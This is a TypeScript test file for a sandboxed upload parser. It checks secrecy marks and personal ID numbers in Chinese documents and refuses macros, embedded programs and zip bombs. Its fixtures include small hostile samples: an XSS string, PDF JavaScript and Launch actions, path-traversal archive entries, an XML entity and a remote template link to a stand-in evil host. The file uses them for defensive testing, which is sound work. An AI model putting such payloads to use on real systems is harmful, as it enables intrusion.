import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Readable } from 'node:stream';
import { createCanvas, loadImage } from '@napi-rs/canvas';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { ParseFailed, parseInChild } from '../src/platform/parse/index.ts';
import { pdfEncoded, pdfOf } from './pdf-sample.ts';
import { ofd, pptx, shape } from './preview-samples.ts';

/* Uploads are read in a child process: what it finds, what it refuses, and that it can be lost without harm. */

const bytesOf = async (stream: Readable) => Buffer.concat(await stream.toArray());
const inspect = async (extension: string, bytes: Uint8Array | string) =>
  (await parseInChild('inspect', { bytes: Buffer.from(bytes) }, { extension: extension as 'pdf' })).result;
const refusal = async (extension: string, bytes: Uint8Array | string) => {
  const error = await inspect(extension, bytes).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(ParseFailed);
  return (error as Error).message;
};

const TYPES = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const docx = (body: string, more: Record<string, Uint8Array> = {}) =>
  zipSync({
    '[Content_Types].xml': strToU8(TYPES),
    'word/document.xml': strToU8(`<w:document><w:body>${body}</w:body></w:document>`),
    ...more,
  });
const paragraph = (...runs: string[]) =>
  `<w:p>${runs.map((r) => `<w:r><w:t>${r}</w:t></w:r>`).join('')}</w:p>`;
const pdf = (inner = '') => `%PDF-1.4\n1 0 obj\n<< /Type /Catalog ${inner}>>\nendobj\ntrailer\n<<>>\n%%EOF`;
/** The head of a compound file, and a directory entry with this name. */
const compound = (name = 'WordDocument') =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(name, 'utf16le')]);

describe('a file that is inspected', () => {
  test('[R-DOC-04] gives its words: paragraphs apart, runs of one paragraph together', async () => {
    expect(await inspect('docx', docx(paragraph('公开', '内容')))).toMatchObject({
      wordsRead: true,
      secrecyMark: false,
      personal: [],
    });
    // Word cuts a line into runs wherever somebody has edited it.
    expect(await inspect('docx', docx(paragraph('机', '密★', '5年')))).toMatchObject({ secrecyMark: true });
    expect(await inspect('docx', docx(paragraph('依法保守机密，') + paragraph('五星')))).toMatchObject({
      secrecyMark: false,
    });
    const header = { 'word/header1.xml': strToU8(`<w:hdr>${paragraph('密级：秘密')}</w:hdr>`) };
    expect(await inspect('docx', docx(paragraph('正文'), header))).toMatchObject({ secrecyMark: true });
  });

  test('texts are read in UTF-8, UTF-16 and GB 18030, and personal numbers are found with their lines', async () => {
    const gb = Buffer.from('c3f7b4a8cad0', 'hex'); // 明川市 in GB 2312
    expect(await inspect('txt', gb)).toMatchObject({ mediaType: 'text/plain; charset=gb18030' });
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('绝密★长期', 'utf16le')]);
    expect(await inspect('txt', utf16)).toMatchObject({
      mediaType: 'text/plain; charset=utf-16le',
      secrecyMark: true,
    });
    // An invented number with a right check digit, in the third line.
    const found = await inspect('csv', '姓名,证件号\n甲,\n乙,11010519491231002X\n');
    expect(found).toMatchObject({
      mediaType: 'text/csv; charset=utf-8',
      personal: [{ kind: 'identity-number', line: 3 }],
    });
    expect(JSON.stringify(found)).not.toContain('19491231');
  });

  test('[R-ACC-07] [R-SEC-01] the words of a PDF are read: pages, numbers of persons, secrecy marks', async () => {
    const clean = await inspect('pdf', pdfOf([['关于渡口开航的通知', '自六月起开航。'], ['第二页']]));
    expect(clean).toMatchObject({ pages: 2, wordsRead: true, secrecyMark: false, personal: [] });
    const found = await inspect('pdf', pdfOf([['名单'], ['乙,11010519491231002X']]));
    expect(found).toMatchObject({ pages: 2, personal: [{ kind: 'identity-number' }] });
    expect(await inspect('pdf', pdfOf([['机密★5年', '内部事项']]))).toMatchObject({ secrecyMark: true });
    // One page without words may be a scan: a person has to read it.
    expect(await inspect('pdf', pdfOf([['正文'], []]))).toMatchObject({ pages: 2, wordsRead: false });
  });

  test('[R-ACC-07] pages are those of the slides and of OFD, and what the program noted that saved a Word file', async () => {
    const noted = (pages: string) => ({ 'docProps/app.xml': strToU8(`<Properties>${pages}</Properties>`) });
    const line = (text: string) => [{ y: 20, text }];
    for (const [extension, bytes, pages] of [
      [
        'pptx',
        pptx([{ xml: shape(['一']) }, { xml: shape(['二']) }, { xml: shape(['三']), hidden: true }]),
        3,
      ],
      ['ofd', ofd([line('一'), line('二')]), 2],
      ['docx', docx(paragraph('正文'), noted('<Pages>11</Pages>')), 11],
      ['docx', docx(paragraph('正文'), noted('')), null],
      ['docx', docx(paragraph('正文')), null],
      ['txt', '第一页', null],
    ] as const)
      expect([extension, (await inspect(extension, bytes)).pages]).toEqual([extension, pages]);
  });

  // Codes by another program's tables; the last line is a number of a person.
  const GBK = [
    'b9d8d3dab6c9bfdabfaababdb5c4cda8d6aaa3a832303236a3a93132bac5',
    '87d6e946a96ea95aa6c1a7a8',
    'd2d22c313130313035313934393132333130303258',
  ];
  const UTF16 = [
    '51734e8e6e2153e35f00822a7684901a77e5ff080032003000320036ff090031003253f7',
    '56cd9555fe4f323103b10416',
    '4e59002c003100310030003100300035003100390034003900310032003300310030003000320058',
  ];
  test.each([
    ['GBK-EUC-H', GBK],
    ['GBKp-EUC-H', GBK],
    ['GBK-EUC-V', GBK],
    ['UniGB-UCS2-H', UTF16],
    ['UniGB-UTF16-H', UTF16],
    ['UniGB-UCS2-V', UTF16],
  ])(
    '[R-SEC-01] the words of a PDF in %s, which says nothing of its letters, are read',
    async (encoding, codes) => {
      const found = await inspect('pdf', pdfEncoded(encoding, codes));
      expect(found).toMatchObject({ pages: 1, wordsRead: true, personal: [{ kind: 'identity-number' }] });
      // Written downwards, brackets are told by their forms for that direction.
      const words = JSON.stringify(found.preview).replace(/\s/g, '').normalize('NFKC');
      for (const line of ['关于渡口开航的通知（2026）12号', '囍镕﹏㈱αЖ'])
        expect(words).toContain(line.normalize('NFKC'));
    },
  );

  test.each([
    ['a code that GBK does not know', pdfEncoded('GBK-EUC-H', [GBK[0]!, 'a2ab'])],
    ['a letter of private use', pdfEncoded('UniGB-UCS2-H', [UTF16[0]!, 'e123'])],
    ['numbers of letters instead of an encoding', pdfEncoded('Identity-H', ['0a1b0a1c'])],
    ['an encoding of another region', pdfEncoded('ETen-B5-H', ['a440a441'])],
  ])('[R-SEC-01] %s in a PDF leaves it to a person', async (_, bytes) => {
    expect(await inspect('pdf', bytes)).toMatchObject({ pages: 1, wordsRead: false, personal: [] });
  });

  test('the old formats are taken, with the word that nobody has read them', async () => {
    for (const [extension, bytes] of [
      ['doc', compound()],
      ['et', compound('Workbook')],
    ] as const)
      expect([extension, (await inspect(extension, bytes)).wordsRead]).toEqual([extension, false]);
  });

  test('what is not what its ending says is refused', async () => {
    for (const [extension, bytes, said] of [
      ['pdf', '<html><script>alert(1)</script></html>', /不是 PDF/],
      ['pdf', Buffer.concat([Buffer.from('4d5a', 'hex'), Buffer.alloc(200)]), /像是 \.exe/],
      ['docx', compound(), /不是 Word/],
      ['docx', zipSync({ 'a.txt': strToU8('x') }), /不是 Word/],
      ['doc', docx(paragraph('x')), /不是 Word/],
      ['ofd', zipSync({ 'a.txt': strToU8('x') }), /不是 OFD/],
      ['txt', pdf(), /不是 文本/],
      ['txt', '<!DOCTYPE html><p>x', /网页/],
      ['txt', '<svg onload="alert(1)">', /网页/],
      ['txt', Buffer.from([0x41, 0, 1, 2, 3]), /不是文本/],
      ['txt', Buffer.from([0xff, 0xff, 0xff]), /不是文本/],
      ['txt', '', /空的/],
    ] as const)
      expect([extension, String(bytes).slice(0, 12), await refusal(extension, bytes)]).toEqual([
        extension,
        String(bytes).slice(0, 12),
        expect.stringMatching(said),
      ]);
  });

  test('[R-SEC-01] words are found however the file writes them: another part, another encoding, CDATA, an embedded file', async () => {
    const mark = '机密★10年';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(paragraph(mark), 'utf16le')]);
    const named = TYPES.replace(
      '</Types>',
      '<Override PartName="/word/main.dat" ContentType="application/x+xml"/></Types>',
    );
    for (const [way, file] of Object.entries({
      cdata: docx(paragraph(`<![CDATA[${mark}]]>`)),
      'another name': docx(paragraph('x'), { 'word/document9.xml': strToU8(paragraph(mark)) }),
      'another ending': docx(paragraph('x'), {
        'word/main.dat': strToU8(paragraph(mark)),
        '[Content_Types].xml': strToU8(named),
      }),
      'UTF-16': docx(paragraph('x'), { 'word/document2.xml': utf16 }),
      'GB 18030': docx(paragraph('x'), {
        'word/document2.xml': Buffer.concat([
          Buffer.from('<?xml version="1.0" encoding="gb18030"?><w:p>'),
          Buffer.from('bbfac3dca1ef3130c4ea', 'hex'),
          Buffer.from('</w:p>'),
        ]),
      }),
      embedded: docx(paragraph('x'), { 'word/embeddings/a.docx': Buffer.from(docx(paragraph(mark))) }),
    }))
      expect([way, (await inspect('docx', file)).secrecyMark]).toEqual([way, true]);
    // An object of another program stays unread, and says so.
    const object = docx(paragraph('x'), { 'word/embeddings/oleObject1.bin': strToU8('Equation Native') });
    expect(await inspect('docx', object)).toMatchObject({ wordsRead: false, secrecyMark: false });
  });

  test('programs are refused wherever they hide: macros, controls, scripts, embedded programs', async () => {
    const x = strToU8('x');
    for (const [extension, bytes, said] of [
      ['docx', docx(paragraph('x'), { 'word/vbaProject.bin': x }), /宏/],
      ['docx', docx(paragraph('x'), { 'word/activeX/activeX1.bin': x }), /控件/],
      ['docx', docx(paragraph('x'), { 'word/embeddings/setup.exe': x }), /嵌有程序/],
      ['docx', docx(paragraph('x'), { '../../../tmp/a.xml': x }), /文件之外/],
      ['docx', docx(paragraph('x'), { 'word/..\\..\\a.xml': x }), /文件之外/],
      ['docx', docx(paragraph('x'), { 'C:/a.xml': x }), /文件之外/],
      [
        'docx',
        zipSync({
          '[Content_Types].xml': strToU8(TYPES.replace('officedocument', 'ms-word.document.macroEnabled')),
          'word/document.xml': x,
        }),
        /宏|不是 Word/,
      ],
      ['doc', compound('_VBA_PROJECT'), /宏/],
      ['xlsx', compound('EncryptedPackage'), /不是 Excel|密码/],
      ['pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '), /脚本/],
      ['pdf', pdf('/AA << /S /Launch /F (calc) >> '), /脚本/],
      ['pdf', pdf('/OpenAction << /S /Java#53cript /JS (app.alert(1)) >> '), /脚本/],
      ['pdf', pdf('/Names << /EmbeddedFiles << /Type /EmbeddedFile >> >> '), /附带/],
      ['pdf', Buffer.concat([Buffer.from(pdf()), Buffer.from(zipSync({ 'a.exe': x }))]), /压缩包/],
      [
        'docx',
        docx(paragraph('x'), {
          'word/embeddings/oleObject1.bin': Buffer.from('MZ\u0090\u0000 program', 'latin1'),
        }),
        /程序/,
      ],
      [
        'docx',
        docx(paragraph('x'), {
          'word/embeddings/oleObject1.bin': Buffer.from('\u0001Ole10Native', 'utf16le'),
        }),
        /程序/,
      ],
      ['docx', docx(paragraph('x'), { 'word/any.bin': Buffer.from('_VBA_PROJECT', 'utf16le') }), /宏/],
      ['docx', docx(paragraph('x'), { 'word/embeddings/inner.docm': x }), /宏/],
      [
        'docx',
        docx(paragraph('x'), {
          'word/embeddings/inner.docx': Buffer.from(docx(paragraph('y'), { 'word/vbaProject.bin': x })),
        }),
        /宏/,
      ],
      ['docx', docx(`<!DOCTYPE d [<!ENTITY a "机密">]>${paragraph('&a;')}`), /实体/],
      ['docx', docx(`${paragraph('x')}<w:altChunk r:id="rId9"/>`), /其他文件/],
      [
        'docx',
        docx(paragraph('x'), {
          'word/_rels/settings.xml.rels': strToU8(
            '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          ),
        }),
        /模板/,
      ],
    ] as const)
      expect([extension, await refusal(extension, bytes)]).toEqual([extension, expect.stringMatching(said)]);
  });

  test('bombs are refused by their directory, before anything is unfolded', async () => {
    const big = docx(paragraph('x'), { 'word/media/a.bin': new Uint8Array(40 * 1024 * 1024) });
    expect(big.length).toBeLessThan(1024 * 1024);
    const started = performance.now();
    expect(await refusal('docx', big)).toMatch(/异常地大/);
    expect(performance.now() - started).toBeLessThan(3000);
    expect(await refusal('docx', docx(paragraph('x')).subarray(0, 300))).toMatch(/不是 Word|损坏/);
  });
});

describe('a picture', () => {
  const jpeg = async () => {
    const canvas = createCanvas(60, 30);
    const draw = canvas.getContext('2d');
    draw.fillStyle = 'red';
    draw.fillRect(0, 0, 60, 30);
    return canvas.encode('jpeg', 90);
  };
  /** An EXIF segment with a maker and a place, put behind the start of a JPEG. */
  const withExif = (picture: Buffer, orientation: number) => {
    const tiff = Buffer.from(
      '49492a0008000000020012010300010000000000000010010200100000002600000000000000',
      'hex',
    );
    tiff.writeUInt16LE(orientation, 18);
    const body = Buffer.concat([
      Buffer.from('Exif\0\0', 'latin1'),
      tiff,
      Buffer.from('SecretCamera 30.1N\0'),
    ]);
    const head = Buffer.from([0xff, 0xe1, 0, 0]);
    head.writeUInt16BE(body.length + 2, 2);
    return Buffer.concat([picture.subarray(0, 2), head, body, picture.subarray(2)]);
  };
  const reencode = (bytes: Uint8Array, format: 'jpg' | 'png' | 'gif' | 'webp', maxPixels = 10_000_000) =>
    parseInChild('image', { bytes }, { format, maxPixels }, { output: bytesOf });

  test('is drawn anew: nothing but the picture comes through', async () => {
    const photo = withExif(await jpeg(), 1);
    expect(photo.includes('SecretCamera')).toBe(true);
    const { result, output } = await reencode(photo, 'jpg');
    expect(result).toEqual({ width: 60, height: 30, extension: 'jpg', mediaType: 'image/jpeg' });
    expect(output?.includes('SecretCamera')).toBe(false);
    expect(output?.includes('Exif')).toBe(false);
    const drawn = await loadImage(output as Buffer);
    expect([drawn.width, drawn.height]).toEqual([60, 30]);
  });

  test('turned by its camera, it stays upright', async () => {
    // 6 = the camera was held on its side: what is stored lying is to be shown standing.
    const { result } = await reencode(withExif(await jpeg(), 6), 'jpg');
    expect([result.width, result.height]).toEqual([30, 60]);
  });

  test('a GIF becomes a PNG, a WebP stays one', async () => {
    const gif = Buffer.from('R0lGODlhAQABAIAAAP8AAAAAACwAAAAAAQABAAACAkQBADs=', 'base64');
    expect((await reencode(gif, 'gif')).result).toMatchObject({ width: 1, extension: 'png' });
    const webp = await createCanvas(5, 4).encode('webp', 90);
    expect((await reencode(webp, 'webp')).result).toMatchObject({ width: 5, height: 4, extension: 'webp' });
  });

  test('with too many pixels is refused by its head alone, a damaged one in words', async () => {
    const huge = Buffer.from(await createCanvas(2, 2).encode('png'));
    huge.writeUInt32BE(60_000, 16);
    huge.writeUInt32BE(60_000, 20);
    await expect(reencode(huge, 'png')).rejects.toThrow('60000×60000');
    const photo = await jpeg();
    await expect(reencode(photo, 'jpg', 1000)).rejects.toThrow('像素');
    await expect(reencode(photo.subarray(0, 40), 'jpg')).rejects.toThrow(ParseFailed);
    await expect(reencode(photo, 'png')).rejects.toThrow('已损坏');
    await expect(reencode(Buffer.from('not a picture at all, but long enough'), 'gif')).rejects.toThrow(
      '损坏',
    );
  });
});

describe('the child process', () => {
  const picture = async () => createCanvas(3000, 2000).encode('png');

  test('is killed when it takes too long, too much memory, or says too much', async () => {
    const bytes = await picture();
    const started = performance.now();
    const run = (limits: object) =>
      parseInChild('image', { bytes }, { format: 'png', maxPixels: 1e8 }, { limits, output: bytesOf });
    await expect(run({ ms: 20 })).rejects.toThrow('没有在规定时间内处理完');
    await expect(run({ memory: 20 * 1024 * 1024 })).rejects.toThrow(/内存太多|无法读取/);
    await expect(run({ resultBytes: 10 })).rejects.toThrow('内容太多');
    expect(performance.now() - started).toBeLessThan(10_000);
    expect((await run({})).result.width).toBe(3000);
  });

  test('has no environment and no right to open files or start programs', async () => {
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'mingtang-parse-')), 'a.png');
    fs.writeFileSync(file, await picture());
    const done = parseInChild('image', { file }, { format: 'png', maxPixels: 1e8 }, { output: bytesOf });
    const children = () =>
      fs
        .readdirSync('/proc/self/task')
        .flatMap((t) => fs.readFileSync(`/proc/self/task/${t}/children`, 'utf8').split(' '))
        .filter((pid) => pid && fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('parse/child'));
    await expect.poll(() => children().length, { timeout: 5000, interval: 5 }).toBe(1);
    const [pid] = children();
    const command = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0');
    expect(command).toContain('--permission');
    expect(command.filter((c) => /allow-(fs-write|child|worker|wasi)/.test(c))).toEqual([]);
    // The shell that sets the limits adds nothing but the folder it stands in.
    expect(
      fs.readFileSync(`/proc/${pid}/environ`, 'utf8').replace(/(?:PWD|OLDPWD|SHLVL|_)=[^\0]*\0/g, ''),
    ).toBe('');
    expect((await done).result.width).toBe(3000);
    fs.rmSync(path.dirname(file), { recursive: true });
  });

  test('many jobs wait their turn', async () => {
    const all = await Promise.all(Array.from({ length: 6 }, (_, i) => inspect('txt', `第${i}份`)));
    expect(all.every((r) => r.wordsRead)).toBe(true);
  });
});
